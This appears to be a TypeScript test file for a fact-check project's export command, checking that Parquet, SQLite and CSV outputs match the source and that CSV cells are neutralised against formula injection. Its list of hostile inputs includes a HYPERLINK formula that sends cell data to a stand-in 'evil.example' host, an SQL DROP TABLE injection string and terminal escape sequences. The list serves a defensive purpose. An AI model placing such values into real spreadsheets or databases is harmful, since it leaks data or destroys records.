import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { read } from '@e965/xlsx';
import { describe, expect, test } from 'vitest';
import { TABLES, VIEWS, type Table } from '../../src/interchange/index.ts';
import { bytesIn, exported } from './exported.ts';
import { duckdb, duckdbAll, sqlite, type Row } from './export-readers.ts';
import { CHECK, factwright, scratchProject, SETTINGS, TRANSLATION } from './scratch-project.ts';

/** What a stranger writes into texts: formulas, quotation marks, line ends, controls, halves of characters, very much. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '  =1+1',
  `"quoted", 'single'; DROP TABLE checks;--`,
  'a\u0000b\u001b]0;owned\u0007c',
  'half \ud800 of a pair',
  `long ${'x'.repeat(100_000)}`,
  '{"a":[1]}; b, c',
];

function hostileCheck(text: string, index: number): string {
  const quoted = JSON.stringify(text);
  return CHECK.replace(/^title: .*/, `title: ${quoted}\ntopics: [${quoted}, fisheries]`)
    .replace('summary: The log', `summary: ${quoted} #`)
    .replace('shows: A trawler', `shows: ${quoted} #`)
    .replace('name: Oren Vask', `name: ${quoted}`)
    .replace('published: 2024-05-04', `published: ${2020 + (index % 3)}-05-04`)
    .concat(`corrections: [{ date: 2024-06-01, kind: minor, text: ${quoted} }]\nupdated: 2024-06-01\n`);
}

function hostileProject(): string {
  const files = Object.fromEntries(
    HOSTILE.map((text, index) => [`factchecks/hostile-${index}.yaml`, hostileCheck(text, index)]),
  );
  return scratchProject({
    'factwright.yaml': SETTINGS.replace('languages: [en]', 'languages: [en, de]'),
    'factchecks/kutter.yaml': TRANSLATION,
    ...files,
  });
}

/** The rows of a table as the data dictionary makes them of what the project says, by its own lines of JSON. */
async function expectedRows(root: string, table: Table): Promise<readonly Row[]> {
  const { stdout } = await factwright(root, 'export', '--to', 'ndjson', '--force');
  const rows = stdout
    .split('\n')
    .slice(0, -1)
    .flatMap((line) => table.rowsOf(JSON.parse(line)));
  return rows.map((row) => Object.fromEntries(table.columns.map(({ name }, at) => [name, row[at] ?? null])));
}

/** A row as every reader can have it: lists in one text, yes and no in words. */
function plain(row: Row): Row {
  return Object.fromEntries(
    Object.entries(row).map(([name, value]) => [
      name,
      Array.isArray(value) ? value.join('; ') : typeof value === 'boolean' ? String(value) : (value ?? null),
    ]),
  );
}

function keyed(table: Table, rows: readonly Row[]): readonly Row[] {
  const keyOf = (row: Row): string => table.key.map((name) => String(row[name]).padStart(9, '0')).join('\n');
  return rows.toSorted((a, b) => (keyOf(a) < keyOf(b) ? -1 : 1));
}

describe('what readers find is what the project says', () => {
  test('DuckDB in Parquet', async () => {
    const root = hostileProject();
    await exported(root, 'parquet', '--force');
    for (const table of TABLES) {
      const rows = await duckdb(`SELECT * FROM '${join(root, 'out', table.name)}.parquet'`);
      expect(keyed(table, rows)).toEqual(keyed(table, await expectedRows(root, table)));
    }
  });

  test('DuckDB in Parquet that is divided into folders', async () => {
    const root = hostileProject();
    await exported(root, 'parquet', '--force', '--partition', 'year,language');
    expect(readdirSync(join(root, 'out/checks'))).toEqual(['year=2020', 'year=2021', 'year=2022', 'year=2024']);
    expect(readdirSync(join(root, 'out/checks/year=2024'))).toEqual(['language=de', 'language=en']);
    for (const table of TABLES) {
      const rows = await duckdb(
        `SELECT * FROM read_parquet('${join(root, 'out', table.name)}/**/*.parquet', hive_partitioning = true, hive_types = {'year': VARCHAR})`,
      );
      const year = new Map((await expectedRows(root, TABLES[0] ?? table)).map((row) => [row['id'], row]));
      const expected = (await expectedRows(root, table)).map((row) => {
        const check = year.get(row['check_id'] ?? row['id']);
        return {
          ...row,
          year: String(check?.['published']).slice(0, 4),
          language: row['language'] ?? check?.['language'],
        };
      });
      expect(keyed(table, rows)).toEqual(keyed(table, expected));
    }
  });

  test('SQLite', async () => {
    const root = hostileProject();
    await exported(root, 'sqlite', '--force');
    for (const table of TABLES) {
      const types = new Map(table.columns.map(({ name, type }) => [name, type]));
      const rows = sqlite(join(root, 'out'), `SELECT * FROM ${table.name}`).map((row) =>
        Object.fromEntries(
          Object.entries(row).map(([name, value]) => {
            const type = types.get(name);
            if (value === null || (type !== 'list' && type !== 'boolean')) return [name, value];
            return [name, type === 'list' ? JSON.parse(String(value)) : value === 1];
          }),
        ),
      );
      expect(keyed(table, rows)).toEqual(keyed(table, await expectedRows(root, table)));
    }
  });

  test.each(['DuckDB', 'a spreadsheet'])('%s in CSV', async (reader) => {
    const root = hostileProject();
    await exported(root, 'csv', '--force');
    for (const table of TABLES) {
      const path = join(root, 'out', `${table.name}.csv`);
      const rows = reader === 'DuckDB' ? await duckdbCsv(path) : sheetRows(readFileSync(path, 'utf8'));
      const unmarked = rows.map((row) =>
        Object.fromEntries(
          Object.entries(row).map(([name, value]) => [name, String(value ?? '').replace(/^'(?=\s*[=+\-@])/, '')]),
        ),
      );
      const expected = (await expectedRows(root, table)).map((row) =>
        Object.fromEntries(Object.entries(plain(row)).map(([name, value]) => [name, String(value ?? '')])),
      );
      expect(keyed(table, unmarked)).toEqual(keyed(table, expected));
    }
  });
});

function duckdbCsv(path: string): Promise<readonly Row[]> {
  return duckdb(`SELECT * FROM read_csv('${path}', all_varchar = true, max_line_size = 10000000)`);
}

/** What a program for tables makes of a CSV file. */
function sheetRows(text: string): readonly Row[] {
  const [heads = [], ...rows] = cellsOf(text, true);
  return rows.map((row) => Object.fromEntries(heads.map((head, at) => [String(head.v), row[at]?.v])));
}

interface SheetCell {
  readonly v?: unknown;
  /** The formula. */
  readonly f?: string;
}

function cellsOf(text: string, raw = false): readonly (readonly SheetCell[])[] {
  const { Sheets } = read(text, { type: 'string', raw, dense: true, cellText: false, cellDates: false });
  return Object.values(Sheets)[0]?.['!data'] ?? [];
}

describe('CSV', () => {
  test('has no cell that a spreadsheet takes for a formula', async () => {
    const root = hostileProject();
    await exported(root, 'csv', '--force');
    const cells = [...bytesIn(join(root, 'out')).values()].flatMap((bytes) => cellsOf(String(bytes)).flat());
    expect(cells.filter(({ f }) => f !== undefined)).toEqual([]);
    expect(cells.filter(({ v }) => /^\s*[=+\-@\t\r]/.test(String(v)))).toEqual([]);
    expect(cells.filter(({ v }) => /^'\s*[=+\-@]/.test(String(v))).length).toBeGreaterThan(20);
    // It would see one.
    expect(
      cellsOf('a,b\r\n=1+1,2\r\n')
        .flat()
        .some(({ f }) => f === '1+1'),
    ).toBe(true);
  });

  test('holds no control character but line ends, and is UTF-8', async () => {
    const root = hostileProject();
    await exported(root, 'csv', '--force');
    for (const bytes of bytesIn(join(root, 'out')).values())
      expect(new TextDecoder('utf-8', { fatal: true }).decode(bytes)).not.toMatch(/[^\P{Cc}\t\n\r]/u);
  });
});

describe('SQLite', () => {
  test('searches titles, claims and verdicts, without regard to accents', async () => {
    const root = scratchProject({ 'factchecks/other.yaml': CHECK.replace(/^title: .*/, 'title: Äquator und Fähre') });
    await exported(root, 'sqlite');
    const found = (words: string): readonly Row[] =>
      sqlite(
        join(root, 'out'),
        `SELECT checks.id FROM checks_text JOIN checks ON checks.rowid = checks_text.rowid WHERE checks_text MATCH '${words}' ORDER BY rank`,
      );
    expect(found('fahre')).toEqual([{ id: 'other' }]);
    expect(found('trawler')).toHaveLength(2);
    expect(found('submarine')).toEqual([]);
  });

  test('has views that count originals, not their translations', async () => {
    const root = scratchProject({
      'factwright.yaml': SETTINGS.replace('languages: [en]', 'languages: [en, de]'),
      'factchecks/kutter.yaml': TRANSLATION,
      'factchecks/other.yaml': CHECK.replace('title: ', 'topics: [fisheries, harbours]\ntitle: ').concat(
        'corrections: [{ date: 2024-06-01, kind: minor, text: The name was misspelt. }]\nupdated: 2024-06-01\n',
      ),
    });
    await exported(root, 'sqlite', '--force');
    const view = (name: string): readonly Row[] => sqlite(join(root, 'out'), `SELECT * FROM ${name}`);
    expect(VIEWS.map(({ name }) => name)).toEqual([
      'verdicts_by_speaker',
      'verdicts_by_topic',
      'source_use',
      'corrections_log',
    ]);
    expect(view('verdicts_by_speaker')).toEqual([
      { claimant_id: 'minister', claimant: 'Oren Vask', rating: 'false', rating_label: 'False', checks: 2 },
    ]);
    expect(view('verdicts_by_topic')).toEqual([
      { topic: 'fisheries', rating: 'false', rating_label: 'False', checks: 1 },
      { topic: 'harbours', rating: 'false', rating_label: 'False', checks: 1 },
    ]);
    expect(view('source_use').map(({ address, checks, items }) => [address, checks, items])).toEqual([
      ['https://guard.example/radar', 2, 2],
      ['https://harbour.example/log.csv', 2, 2],
      ['https://ministry.example/press/2024-04-12', 2, 0],
    ]);
    expect(view('corrections_log')).toMatchObject([{ date: '2024-06-01', kind: 'minor', check_id: 'other' }]);
    expect(view('pragma_user_version')).toEqual([{ user_version: 1 }]);
  });
});

describe('a folder of Parquet', () => {
  test('keeps nothing of an earlier export: readers take in all that is there', async () => {
    const root = scratchProject();
    await exported(root, 'parquet', '--partition', 'year,language');
    writeFileSync(join(root, 'factchecks/trawlers-in-reserve.yaml'), CHECK.replaceAll('2024-05-04', '2025-05-04'));
    await exported(root, 'parquet', '--partition', 'year');
    expect([...bytesIn(join(root, 'out')).keys()]).toContain('checks/year=2025/checks.parquet');
    expect(readdirSync(join(root, 'out/checks'))).toEqual(['year=2025']);
    await exported(root, 'parquet');
    expect(readdirSync(join(root, 'out'))).toEqual(TABLES.map(({ name }) => `${name}.parquet`).toSorted());
  });

  test('takes in no file that an export that was killed left half written, and is rid of it', async () => {
    const left = `.checks.parquet.${'a'.repeat(24)}.tmp`;
    const root = scratchProject({ [`out/${left}`]: 'half', [`out/checks/year=2019/${left}`]: 'half' });
    await exported(root, 'parquet');
    expect(readdirSync(join(root, 'out'))).toEqual(TABLES.map(({ name }) => `${name}.parquet`).toSorted());
  });

  test('with files of others is refused, and they stay', async () => {
    for (const file of ['out/notes.txt', 'out/checks/year=2024/other.parquet']) {
      const root = scratchProject({ [file]: 'mine' });
      const { code, stderr } = await factwright(root, 'export', '--to', 'parquet', '--out', 'out');
      expect([code, stderr]).toEqual([2, expect.stringContaining('holds files that no export to Parquet wrote')]);
      expect(readFileSync(join(root, file), 'utf8')).toBe('mine');
    }
  });

  test('gives drafts, which have no year, the folder of no value', async () => {
    const root = scratchProject({
      'factchecks/a.yaml': CHECK.replace('status: published\npublished: 2024-05-04', 'status: draft'),
    });
    await exported(root, 'parquet', '--partition', 'year', '--drafts');
    const rows = await duckdb(
      `SELECT id, year FROM read_parquet('${join(root, 'out')}/checks/**/*.parquet', hive_partitioning = true, hive_types = {'year': INTEGER}) ORDER BY id`,
    );
    expect(rows).toEqual([
      { id: 'a', year: null },
      { id: 'trawlers-in-reserve', year: 2024 },
    ]);
  });

  test.each([
    ['month', 2],
    ['year,year', 2],
    ['', 2],
  ])('is divided by nothing else than year and language: %s', async (by, expected) => {
    const root = scratchProject();
    const { code } = await factwright(root, 'export', '--to', 'parquet', '--out', 'out', '--partition', by);
    expect([code, existsSync(join(root, 'out'))]).toEqual([expected, false]);
  });

  test('alone is divided', async () => {
    const { code, stderr } = await factwright(
      scratchProject(),
      'export',
      '--to',
      'csv',
      '--out',
      'o',
      '--partition',
      'year',
    );
    expect([code, stderr]).toEqual([2, expect.stringContaining('`--partition` is for Parquet')]);
  });
});

test('the recipe of the documentation runs in DuckDB', async () => {
  const root = scratchProject({ 'factchecks/other.yaml': CHECK.replace('title: ', 'topics: [fisheries]\ntitle: ') });
  await exported(root, 'parquet', '--partition', 'year,language');
  const page = readFileSync('docs/export.md', 'utf8');
  const [, recipe = ''] = /### DuckDB\n[^]*?```sql\n([^]*?)```/.exec(page) ?? [];
  const queries = recipe
    .replaceAll("'archive/", `'${join(root, 'out')}/`)
    .split(/;\n/)
    .slice(0, -1);
  expect(queries).toHaveLength(6);
  const results = await duckdbAll(queries);
  expect(results.slice(3)).toEqual([
    [{ year: '2024', claimant: 'Oren Vask', rating_class: 'false', checks: '2' }],
    [{ topic: 'fisheries', checks: '1' }],
    [
      { address: 'https://guard.example/radar', title: 'Record: Coast Guard', items: '2' },
      { address: 'https://harbour.example/log.csv', title: 'Data: Harbour Office of Sel', items: '2' },
    ],
  ]);
  const [, sql = ''] = /```sql\n(SELECT checks.id, [^]*?);\n```/.exec(page) ?? [];
  await exported(root, 'sqlite', '--out', 'db');
  expect(sqlite(join(root, 'db'), sql).map(({ id }) => id)).toEqual(['other', 'trawlers-in-reserve']);
});
